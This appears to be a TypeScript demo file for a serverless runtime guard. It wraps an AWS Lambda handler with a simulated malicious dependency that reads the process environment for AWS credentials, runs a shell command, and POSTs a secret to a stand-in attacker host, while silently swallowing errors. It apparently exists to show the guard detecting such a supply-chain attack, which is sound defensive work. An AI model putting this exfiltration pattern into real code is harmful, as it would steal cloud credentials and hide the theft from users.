/**
 * The demo's compromised copy of unicornParts (the app itself keeps no such
 * code): the real handler, under the same sentinel() options and strict
 * runtime guard, whose request path first runs a "compromised dependency" —
 * what a malicious package update would do on a hot code path. It swallows
 * its own errors, so the request still succeeds and nobody would notice but
 * for the guard.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { sentinel } from '@lambda-sentinel/preset/guard';
import middy from '@middy/core';
import type { APIGatewayProxyEvent } from 'aws-lambda';
import { unicornParts } from '../../src/app/unicornParts.ts';
import { apiRule } from '../../src/shared/allow.ts';
import { guardOptions } from '../../src/shared/guard.ts';
import { instrumentation } from '../../src/shared/observability.ts';

async function quietly(action: () => unknown): Promise<void> {
  try {
    await action();
  } catch {
    // the attacker's code keeps quiet
  }
}

async function compromisedDependency(): Promise<void> {
  await quietly(() => readFileSync('/proc/self/environ')); // the function's AWS credentials
  await quietly(() => execFileSync('sh', ['-c', 'id']));
  await quietly(() =>
    fetch('https://exfil.attacker.example/collect', { method: 'POST', body: 'AWS_SECRET_ACCESS_KEY=...' }),
  );
}

export const handler = middy(async (event: APIGatewayProxyEvent) => {
  await compromisedDependency();
  return unicornParts(event);
}).use(
  sentinel({
    ...instrumentation('unicorn-parts'),
    serviceName: 'unicorn-parts',
    allow: [apiRule()],
    guard: guardOptions(),
  }),
);
